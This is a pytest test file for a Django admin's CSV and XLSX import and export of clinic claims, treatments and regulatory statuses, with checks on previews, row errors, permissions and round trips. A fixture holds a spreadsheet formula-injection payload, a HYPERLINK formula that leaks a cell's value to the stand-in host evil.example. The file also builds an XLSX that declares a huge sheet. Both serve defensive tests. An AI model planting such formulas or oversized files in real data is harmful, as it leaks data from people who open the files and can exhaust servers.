"""Bulk curation in the admin: importing claims, clinics and treatments from CSV or XLSX with a
dry-run preview and row errors, writing nothing while any row is wrong; exporting them; and
round trips through the admin's export and the public CSV export."""

import csv
import io
from datetime import date

import pytest
import tablib
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from claims import revisions
from claims.models import (
    Claim,
    ClaimRevision,
    Clinic,
    Conference,
    Presentation,
    Status,
    StatusRevision,
    Treatment,
)
from claims.resources import IMPORT_REASON
from tests.conftest import (
    make_claim,
    make_clinic,
    make_source,
    make_status,
    make_treatment,
)

pytestmark = pytest.mark.django_db

CSV_FORMAT, XLSX_FORMAT = 0, 1  # the admin's import and export formats, in order
CLAIM_COLUMNS = ["slug", "title", "statement", "clinic", "treatment", "indications"]
CLAIM_COLUMNS += ["evidence_level"]


def as_csv(header, rows):
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(header)
    writer.writerows(rows)
    return text.getvalue().encode()


def upload(content, name="claims.csv"):
    return SimpleUploadedFile(name, content)


def preview(client, content, model="claim", file_format=CSV_FORMAT, name="claims.csv"):
    """The dry run: the admin reads the file, reports each row, and writes nothing."""
    return client.post(
        reverse(f"admin:claims_{model}_import"),
        {"import_file": upload(content, name), "format": file_format},
    )


def confirm(client, previewed, model="claim"):
    form = previewed.context["confirm_form"]
    return client.post(
        reverse(f"admin:claims_{model}_process_import"),
        {name: form.initial.get(name, "") for name in form.fields},
        follow=True,
    )


def import_file(client, content, model="claim", **options):
    previewed = preview(client, content, model, **options)
    assert previewed.context["confirm_form"] is not None, row_errors(previewed)
    return confirm(client, previewed, model)


def row_errors(response):
    """{row number: [messages]} from the preview: each invalid row's validation errors, and
    the errors of rows that could not even be matched (an unknown key column)."""
    result = response.context["result"]
    errors = {
        row.number: [str(e) for errors in row.error_dict.values() for e in errors]
        for row in result.invalid_rows
    }
    for number, row_errors in result.row_errors():
        errors.setdefault(number, []).extend(str(error.error) for error in row_errors)
    return errors


def export(client, model="claim", file_format=CSV_FORMAT, query=""):
    url = reverse(f"admin:claims_{model}_export") + query
    form = client.get(url).context["form"]
    data = {name: "on" for name, field in form.fields.items() if field.initial is True}
    data["format"] = file_format
    response = client.post(url, data)
    assert response.status_code == 200
    return response


def texts(response):
    return [str(message) for message in response.context["messages"]]


def claim_row(slug, clinic="glow", **values):
    row = {
        "slug": slug,
        "title": f"Title of {slug}",
        "statement": f"Statement of {slug}.",
        "clinic": clinic,
        "treatment": "placenta-shot",
        "indications": "acne; scars",
        "evidence_level": "case-series",
        **values,
    }
    return [row[column] for column in CLAIM_COLUMNS]


GOOD_ROWS = [claim_row("one"), claim_row("two")]
BAD_ROWS = [claim_row("one"), claim_row("two", clinic="nowhere-clinic"), claim_row("three")]


# --- The preview and its row errors ---------------------------------------------------------------


def test_it_previews_an_import_and_writes_nothing(client, editor, world):
    client.force_login(editor)

    response = preview(client, as_csv(CLAIM_COLUMNS, GOOD_ROWS))

    assert response.status_code == 200
    assert not response.context["result"].has_validation_errors()
    assert response.context["confirm_form"] is not None
    assert "Title of one" in response.text
    assert not Claim.objects.exists()


def test_it_refuses_a_file_with_one_bad_row_and_says_which(client, editor, world):
    client.force_login(editor)

    response = preview(client, as_csv(CLAIM_COLUMNS, BAD_ROWS))

    assert "confirm_form" not in response.context
    assert row_errors(response) == {2: ["No clinic has the slug or name “nowhere-clinic”."]}
    assert "No clinic has the slug or name “nowhere-clinic”." in response.text
    assert not Claim.objects.exists()


@pytest.mark.parametrize(
    ("column", "value", "error"),
    [
        ("treatment", "no-such-shot", "No treatment has the slug or name “no-such-shot”."),
        ("evidence_level", "anecdote", "No evidence level has the code or name “anecdote”."),
        ("indications", "acne; baldness", "No indication has the slug or name “baldness”."),
        ("clinic", "", "This field cannot be null."),
        ("title", "", "This field cannot be blank."),
    ],
)
def test_it_names_the_problem_in_a_row(client, editor, world, column, value, error):
    client.force_login(editor)

    response = preview(client, as_csv(CLAIM_COLUMNS, [claim_row("one", **{column: value})]))

    assert row_errors(response) == {1: [error]}


def test_it_refuses_an_ambiguous_name(client, editor, world):
    make_clinic(slug="glow-2", name="Glow Aesthetics")
    client.force_login(editor)

    response = preview(client, as_csv(CLAIM_COLUMNS, [claim_row("one", clinic="Glow Aesthetics")]))

    assert row_errors(response) == {
        1: ["More than one clinic is called “Glow Aesthetics”: give its slug."]
    }


def test_it_checks_rows_as_the_form_does(client, editor, world):
    elsewhere = Conference.objects.create(name="Elsewhere", slug="elsewhere")
    Presentation.objects.create(conference=elsewhere, slug="talk", title="A talk")
    Conference.objects.create(name="IMCAS", slug="imcas")
    header = [*CLAIM_COLUMNS, "conference", "presentation"]
    client.force_login(editor)

    response = preview(client, as_csv(header, [[*claim_row("one"), "imcas", "talk"]]))

    assert row_errors(response) == {1: ["This presentation belongs to another conference."]}


def test_it_writes_nothing_if_a_row_goes_bad_between_preview_and_import(client, editor, world):
    spare = make_clinic(slug="spare")
    client.force_login(editor)
    previewed = preview(
        client, as_csv(CLAIM_COLUMNS, [claim_row("one"), claim_row("two", "spare")])
    )
    spare.delete()

    response = confirm(client, previewed)

    assert not Claim.objects.exists()
    assert texts(response) == [
        "Nothing was imported: the data changed since the preview, and some rows are no longer "
        "valid. Import the file again to see why."
    ]


# --- Importing ------------------------------------------------------------------------------------


def test_it_imports_the_previewed_claims_as_drafts(client, editor, world):
    client.force_login(editor)

    response = import_file(client, as_csv(CLAIM_COLUMNS, GOOD_ROWS))

    assert response.status_code == 200
    one = Claim.objects.get(slug="one")
    assert Claim.objects.count() == 2
    assert set(Claim.objects.values_list("state", flat=True)) == {Claim.State.DRAFT}
    assert (one.clinic, one.treatment, one.evidence_level) == (
        world["clinic"],
        world["treatment"],
        world["level"],
    )
    assert set(one.indications.all()) == {world["acne"], world["scars"]}
    record = one.history.latest()
    assert (record.history_user, record.history_change_reason) == (editor, IMPORT_REASON)


def test_it_never_publishes_or_unpublishes_by_import(client, editor, world):
    published = make_claim(slug="live", treatment=world["treatment"], clinic=world["clinic"])
    header = [*CLAIM_COLUMNS, "state"]
    rows = [
        [*claim_row("new", indications="acne"), "published"],
        [*claim_row("live", title="A corrected title"), "draft"],
    ]
    client.force_login(editor)

    import_file(client, as_csv(header, rows))

    assert Claim.objects.get(slug="new").state == Claim.State.DRAFT
    published.refresh_from_db()
    assert published.state == Claim.State.PUBLISHED
    # An editor's correction of a published claim waits for a Publisher (tests/test_revisions).
    assert published.title != "A corrected title"
    pending = ClaimRevision.objects.pending().get(claim=published)
    assert pending.content["fields"]["title"] == "A corrected title"


def test_it_skips_unchanged_rows(client, editor, world):
    client.force_login(editor)
    import_file(client, as_csv(CLAIM_COLUMNS, GOOD_ROWS))
    history = Claim.history.count()

    response = preview(client, as_csv(CLAIM_COLUMNS, GOOD_ROWS))

    totals = response.context["result"].totals
    assert (totals["new"], totals["update"], totals["skip"]) == (0, 0, 2)
    import_file(client, as_csv(CLAIM_COLUMNS, GOOD_ROWS))
    assert Claim.history.count() == history


def test_it_imports_an_xlsx_file(client, editor, world):
    workbook = tablib.Dataset(*GOOD_ROWS, headers=CLAIM_COLUMNS).export("xlsx")
    client.force_login(editor)

    import_file(client, workbook, file_format=XLSX_FORMAT, name="claims.xlsx")

    assert set(Claim.objects.values_list("slug", flat=True)) == {"one", "two"}


def test_it_imports_clinics_and_the_treatments_claims_refer_to(client, editor, jurisdictions):
    make_source(slug="salmon", name="Salmon")
    client.force_login(editor)

    import_file(
        client,
        as_csv(
            ["slug", "name", "kind", "city", "country"], [["new", "New", "clinic", "Lyon", "fr"]]
        ),
        model="clinic",
    )
    import_file(
        client,
        as_csv(["slug", "name", "source", "route"], [["pdrn", "PDRN", "salmon", "intravenous"]]),
        model="treatment",
    )
    import_file(
        client,
        as_csv(CLAIM_COLUMNS, [["c", "T", "S.", "new", "pdrn", "", ""]]),
    )

    clinic = Clinic.objects.get(slug="new")
    assert (clinic.city, clinic.country.code) == ("Lyon", "FR")
    assert Treatment.objects.get(slug="pdrn").source.slug == "salmon"
    claim = Claim.objects.get(slug="c")
    assert (claim.clinic, claim.treatment.slug, claim.state) == (clinic, "pdrn", Claim.State.DRAFT)


def test_it_refuses_a_treatment_with_an_unknown_route(client, editor, jurisdictions):
    make_source(slug="salmon")
    client.force_login(editor)

    response = preview(
        client,
        as_csv(["slug", "name", "source", "route"], [["pdrn", "PDRN", "salmon", "by-mouth"]]),
        model="treatment",
    )

    assert row_errors(response) == {1: ["Value 'by-mouth' is not a valid choice."]}
    assert not Treatment.objects.filter(slug="pdrn").exists()


# --- The editors' day, from a bad file to a flag change -------------------------------------------


def test_it_carries_a_batch_from_a_refused_file_to_a_flag_change(
    client, editor, publisher, world, fda, eu
):
    """The issue's “done when”: a batch with one bad row is refused with the row's error and
    nothing written; fixed, it imports; editors submit it, a publisher publishes it; a status
    change on its treatment, once a publisher approves it, flips the flag of all its claims and
    shows in their change logs."""
    client.force_login(editor)
    refused = preview(client, as_csv(CLAIM_COLUMNS, BAD_ROWS))
    assert row_errors(refused) == {2: ["No clinic has the slug or name “nowhere-clinic”."]}
    assert not Claim.objects.exists()

    fixed = [claim_row("one"), claim_row("two"), claim_row("three")]
    import_file(client, as_csv(CLAIM_COLUMNS, fixed))
    citations = [
        [slug, "write-up", f"Report on {slug}", f"https://example.org/{slug}", "2026-11-01"]
        for slug in ["one", "two", "three"]
    ]
    import_file(
        client,
        as_csv(["claim", "kind", "title", "url", "accessed_on"], citations),
        model="citation",
    )
    for claim in Claim.objects.all():
        claim.submit_for_review(editor)

    client.force_login(publisher)
    client.post(
        reverse("admin:claims_claim_changelist"),
        {"action": "publish", "_selected_action": list(Claim.objects.values_list("pk", flat=True))},
    )
    assert set(Claim.objects.values_list("state", flat=True)) == {Claim.State.PUBLISHED}

    client.force_login(editor)
    header = ["treatment", "jurisdiction", "status", "explanation", "source_url", "checked_on"]
    update = ["placenta-shot", "fda", "prohibited", "Banned.", "https://example.org/ban"]
    import_file(client, as_csv(header, [[*update, "2026-12-01"]]), model="regulatorystatus")
    revisions.approve(StatusRevision.objects.pending().get(), publisher)

    client.logout()
    for claim in Claim.objects.all():
        response = client.get(claim.get_absolute_url())
        (flag, _) = response.context["links"]["flags"][0]
        assert flag.status == Status.PROHIBITED
        assert "FDA flag changed from not approved to prohibited" in response.text


# --- Citations and statuses -----------------------------------------------------------------------


def test_it_imports_citations_matched_by_claim_and_url(client, editor, world):
    claim = make_claim(slug="one", published=False, citations=0, treatment=world["treatment"])
    header = ["claim", "kind", "title", "url", "accessed_on"]
    rows = [["one", "paper", "A trial", "https://example.org/trial", "2026-11-01"]]
    client.force_login(editor)

    import_file(client, as_csv(header, rows), model="citation")
    rows[0][2] = "A randomised trial"
    import_file(client, as_csv(header, rows), model="citation")

    assert [c.title for c in claim.citations.all()] == ["A randomised trial"]


def test_it_refuses_a_citation_of_an_unknown_claim(client, editor, world):
    header = ["claim", "kind", "title", "url", "accessed_on"]
    client.force_login(editor)

    response = preview(
        client,
        as_csv(header, [["ghost", "paper", "T", "https://example.org/t", "2026-11-01"]]),
        model="citation",
    )

    assert row_errors(response) == {1: ["No claim has the slug “ghost”."]}


def test_it_updates_statuses_in_bulk_and_keeps_their_history(client, editor, world, fda, eu):
    header = ["treatment", "jurisdiction", "status", "explanation", "checked_on"]
    rows = [
        ["placenta-shot", "fda", "prohibited", "Banned.", "2026-12-01"],
        ["placenta-shot", "eu", "not-approved", "Unchanged.", "2026-12-01"],
    ]
    client.force_login(editor)

    import_file(client, as_csv(header, rows), model="regulatorystatus")

    statuses = dict(world["treatment"].regulatory_statuses.values_list("jurisdiction", "status"))
    assert statuses == {fda.pk: Status.PROHIBITED, eu.pk: Status.NOT_APPROVED}
    latest = world["treatment"].regulatory_statuses.get(jurisdiction=fda).history.latest()
    assert (latest.history_user, latest.history_change_reason) == (editor, IMPORT_REASON)


# --- Exporting and round trips --------------------------------------------------------------------


def test_it_exports_claims_with_slugs(client, editor, world):
    make_claim(
        slug="one",
        clinic=world["clinic"],
        treatment=world["treatment"],
        evidence_level=world["level"],
        indications=[world["acne"]],
    )
    client.force_login(editor)

    response = export(client)

    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [(r["slug"], r["clinic"], r["treatment"], r["indications"]) for r in rows] == [
        ("one", "glow", "placenta-shot", "acne")
    ]
    assert (rows[0]["evidence_level"], rows[0]["state"]) == ("case-series", "published")


def test_it_exports_the_filtered_claims_as_xlsx(client, editor, world):
    make_claim(slug="live", treatment=world["treatment"])
    make_claim(slug="draft", treatment=world["treatment"], published=False)
    client.force_login(editor)

    response = export(client, file_format=XLSX_FORMAT, query="?state=draft")

    sheet = tablib.Dataset().load(response.content, format="xlsx")
    assert sheet["slug"] == ["draft"]


def fields_of(claims):
    return sorted(
        (
            c.slug,
            c.title,
            c.statement,
            c.clinic_id,
            c.treatment_id,
            c.evidence_level_id,
            tuple(sorted(i.pk for i in c.indications.all())),
        )
        for c in claims
    )


@pytest.fixture
def catalogue(world):
    tricky = make_claim(
        slug="tricky",
        title="-5 wrinkles, “quoted”, with a comma",
        statement="=SUM(A1) is not a formula here.\nSecond line.",
        clinic=world["clinic"],
        treatment=world["treatment"],
        evidence_level=world["level"],
        indications=[world["acne"], world["scars"]],
    )
    plain = make_claim(
        slug="plain",
        clinic=world["clinic"],
        treatment=world["treatment"],
        evidence_level=world["level"],
    )
    return [tricky, plain]


def test_it_reimports_its_own_export_unchanged(client, editor, catalogue):
    client.force_login(editor)
    exported = export(client).content

    response = preview(client, exported)

    assert response.context["result"].totals["skip"] == 2


def test_it_recreates_claims_from_its_own_export(client, editor, catalogue):
    before = fields_of(Claim.objects.all())
    client.force_login(editor)
    exported = export(client).content
    Claim.objects.all().delete()

    import_file(client, exported)

    assert fields_of(Claim.objects.all()) == before
    assert set(Claim.objects.values_list("state", flat=True)) == {Claim.State.DRAFT}


def test_it_reimports_the_public_csv_export_unchanged(client, editor, catalogue):
    public_csv = b"".join(client.get(reverse("claims:export-csv")).streaming_content)
    client.force_login(editor)

    response = preview(client, public_csv)

    assert not response.context["result"].has_validation_errors()
    assert response.context["result"].totals["skip"] == 2


def test_it_recreates_claims_from_the_public_csv_export(client, editor, catalogue):
    """The public export names clinics, treatments, levels and indications for readers;
    names that are unique import as well as slugs."""
    before = fields_of(Claim.objects.all())
    public_csv = b"".join(client.get(reverse("claims:export-csv")).streaming_content)
    Claim.objects.all().delete()
    client.force_login(editor)

    import_file(client, public_csv)

    assert fields_of(Claim.objects.all()) == before
    assert Claim.objects.get(slug="tricky").statement.startswith("=SUM(A1)")


# --- Who may import and export --------------------------------------------------------------------


@pytest.mark.parametrize("view", ["import", "export"])
def test_it_sends_anonymous_visitors_to_the_login_page(client, view):
    response = client.get(reverse(f"admin:claims_claim_{view}"))
    assert response.url.startswith(reverse("admin:login"))


def test_it_lets_a_viewer_export_but_not_import(client, world, django_user_model):
    viewer = django_user_model.objects.create_user("viewer", is_staff=True)
    viewer.user_permissions.add(Permission.objects.get(codename="view_claim"))
    client.force_login(viewer)

    assert client.get(reverse("admin:claims_claim_export")).status_code == 200
    assert client.get(reverse("admin:claims_claim_import")).status_code == 403
    assert preview(client, as_csv(CLAIM_COLUMNS, GOOD_ROWS)).status_code == 403
    assert not Claim.objects.exists()


@pytest.mark.parametrize("persona", ["editor", "publisher", "superuser"])
def test_it_lets_editors_publishers_and_superusers_import(client, world, request, persona):
    client.force_login(request.getfixturevalue(persona))

    import_file(client, as_csv(CLAIM_COLUMNS, GOOD_ROWS))

    assert Claim.objects.count() == 2


def test_it_offers_import_and_export_on_the_changelists(client, editor, world):
    client.force_login(editor)
    for model in ["claim", "clinic", "treatment"]:
        page = client.get(reverse(f"admin:claims_{model}_changelist")).text
        assert reverse(f"admin:claims_{model}_import") in page
        assert reverse(f"admin:claims_{model}_export") in page


def test_it_keeps_dates_through_an_import(client, editor, world):
    header = [*CLAIM_COLUMNS, "made_on"]
    client.force_login(editor)

    import_file(client, as_csv(header, [[*claim_row("dated"), "2024-04-04"]]))

    assert Claim.objects.get(slug="dated").made_on == date(2024, 4, 4)


# --- Files too big or too odd to read ---------------------------------------------------------


def form_errors(response):
    return [str(error) for error in response.context["form"].errors.get("import_file", [])]


def test_it_refuses_an_oversized_file_before_reading_it(client, editor, world, settings):
    settings.IMPORT_MAX_FILE_BYTES = 1_000
    client.force_login(editor)

    response = preview(client, as_csv(CLAIM_COLUMNS, [claim_row(f"c{n}") for n in range(20)]))

    assert response.status_code == 200
    assert form_errors(response) == [
        "The file is 1.6\xa0KB; at most 1000\xa0bytes can be imported. Split it into smaller files."
    ]
    assert response.context.get("confirm_form") is None
    assert not Claim.objects.exists()


def test_it_refuses_more_rows_than_the_limit(client, editor, world, settings):
    settings.IMPORT_MAX_ROWS = 3
    client.force_login(editor)

    response = preview(client, as_csv(CLAIM_COLUMNS, [claim_row(f"c{n}") for n in range(4)]))

    assert form_errors(response) == [
        "The file has 4 rows; at most 3 can be imported at once. Split it into smaller files."
    ]


def xlsx_declaring(dimension):
    """A small XLSX whose first sheet declares `dimension`: a few kilobytes that, read cell by
    cell, would be a million rows of 16,384 columns."""
    import zipfile

    content = tablib.Dataset(*GOOD_ROWS, headers=CLAIM_COLUMNS).export("xlsx")
    packed, unpacked = io.BytesIO(), zipfile.ZipFile(io.BytesIO(content))
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for member in unpacked.infolist():
            data = unpacked.read(member)
            if member.filename == "xl/worksheets/sheet1.xml":
                start = data.index(b"<dimension")
                end = data.index(b"/>", start) + 2
                data = data[:start] + f'<dimension ref="{dimension}"/>'.encode() + data[end:]
            archive.writestr(member, data)
    return packed.getvalue()


def test_it_refuses_an_xlsx_declaring_a_huge_sheet_before_reading_its_rows(
    client, editor, world, monkeypatch
):
    from openpyxl.worksheet._read_only import ReadOnlyWorksheet

    def no_rows(*args, **kwargs):
        raise AssertionError("a row was read")

    monkeypatch.setattr(ReadOnlyWorksheet, "_cells_by_row", no_rows)
    client.force_login(editor)

    response = preview(
        client, xlsx_declaring("A1:XFD1048576"), file_format=XLSX_FORMAT, name="claims.xlsx"
    )

    assert form_errors(response) == [
        "The sheet has 16,384 columns; at most 50 can be imported. "
        "Delete the columns that are not part of the data."
    ]


def test_it_refuses_a_file_that_is_not_an_xlsx(client, editor, world):
    client.force_login(editor)

    response = preview(client, b"slug,title\n", file_format=XLSX_FORMAT, name="claims.xlsx")

    assert form_errors(response) == ["This is not an XLSX file: choose the format it is in."]


# --- What a file may be missing or repeat -----------------------------------------------------


def test_it_says_a_file_without_a_slug_column_cannot_be_matched(client, editor, world):
    client.force_login(editor)

    response = preview(client, as_csv(["title", "statement"], [["A title", "A statement."]]))

    result = response.context["result"]
    assert [str(error.error) for error in result.base_errors] == [
        "The file has no “slug” column, which says which row each line is. "
        "Its columns are: title, statement."
    ]
    assert result.row_errors() == []
    assert b"Traceback" not in response.content
    assert b"site-packages" not in response.content


def test_it_refuses_two_rows_with_the_same_slug_and_names_both(client, editor, world):
    client.force_login(editor)
    rows = [claim_row("one"), claim_row("two"), claim_row("one", title="Another title")]

    response = preview(client, as_csv(CLAIM_COLUMNS, rows))

    assert [str(error.error) for error in response.context["result"].base_errors] == [
        "Rows 1 and 3 have the same slug “one”: each may appear once in a file."
    ]
    assert response.context.get("confirm_form") is None
    assert not Claim.objects.exists()


def test_it_reads_an_empty_optional_text_cell_of_an_xlsx_as_empty(client, editor, world):
    columns = [*CLAIM_COLUMNS, "outcome", "context_note"]
    rows = [[*claim_row("one"), None, None]]
    workbook = tablib.Dataset(*rows, headers=columns).export("xlsx")
    client.force_login(editor)

    import_file(client, workbook, file_format=XLSX_FORMAT, name="claims.xlsx")

    assert Claim.objects.values_list("outcome", "context_note").get() == ("", "")


def test_it_recreates_claims_from_its_own_xlsx_export(client, editor, catalogue):
    before = fields_of(Claim.objects.all())
    client.force_login(editor)
    exported = export(client, file_format=XLSX_FORMAT).content
    Claim.objects.all().delete()

    import_file(client, exported, file_format=XLSX_FORMAT, name="claims.xlsx")

    assert fields_of(Claim.objects.all()) == before


# --- Exports are data, never formulas ---------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


@pytest.fixture
def hostile_catalogue(world, fda):
    clinic = make_clinic(slug="evil", name=FORMULA, city="+44 20", note="@SUM(1)")
    treatment = make_treatment(
        slug="evil-shot", name="-1+1", product="\tTab", source=world["treatment"].source
    )
    make_status(treatment, fda, Status.NOT_APPROVED, explanation=FORMULA)
    claim = make_claim(
        slug="evil-claim",
        title=FORMULA,
        statement="=1+1",
        outcome="\r=2",
        clinic=clinic,
        treatment=treatment,
        evidence_level=world["level"],
    )
    claim.citations.update(title=FORMULA, publisher="@evil")
    return claim


def cells(response, file_format):
    if file_format == CSV_FORMAT:
        return [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT])
@pytest.mark.parametrize("model", ["claim", "citation", "clinic", "treatment", "regulatorystatus"])
def test_it_exports_no_cell_a_spreadsheet_would_run(
    client, superuser, hostile_catalogue, model, file_format
):
    from claims.cells import FORMULA_TRIGGERS

    client.force_login(superuser)

    exported = cells(export(client, model, file_format), file_format)

    if file_format == XLSX_FORMAT:
        assert [cell.coordinate for cell in exported if cell.data_type == "f"] == []
        exported = [str(cell.value) for cell in exported if cell.value is not None]
    assert [cell for cell in exported if cell.startswith(FORMULA_TRIGGERS)] == []
    assert any(cell.startswith("'") for cell in exported)


def test_it_reimports_its_defused_export_as_it_was(client, superuser, hostile_catalogue):
    client.force_login(superuser)
    exported = export(client, "clinic").content

    response = preview(client, exported, model="clinic")

    assert response.context["result"].totals["skip"] >= 1


def test_it_looks_each_reference_up_once_and_bumps_the_version_once_per_import(
    client, editor, world
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client.force_login(editor)
    rows = [claim_row(f"c{n}") for n in range(20)]

    with CaptureQueriesContext(connection) as queries:
        preview(client, as_csv(CLAIM_COLUMNS, rows))

    statements = [query["sql"] for query in queries.captured_queries]
    assert (
        len(
            [
                sql
                for sql in statements
                if 'FROM "claims_clinic" WHERE' in sql and '"claims_clinic"."slug"' in sql
            ]
        )
        == 1
    )
    assert len([sql for sql in statements if "claims_dataversion" in sql]) <= 2
